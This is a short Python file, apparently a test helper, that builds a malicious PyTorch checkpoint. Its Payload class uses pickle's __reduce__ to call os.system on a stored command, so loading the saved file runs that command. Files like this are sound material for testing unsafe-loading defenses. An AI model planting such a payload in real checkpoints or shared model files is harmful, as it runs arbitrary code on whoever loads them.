"""A checkpoint that runs code where it is unpickled."""

from __future__ import annotations

import io
import os
from typing import Any

import torch


class Payload:
    """Unpickling it runs a command."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self) -> Any:
        return os.system, (self.command,)


def zipped(value: Any) -> bytes:
    """What torch.save writes."""
    buffer = io.BytesIO()
    torch.save(value, buffer)
    return buffer.getvalue()
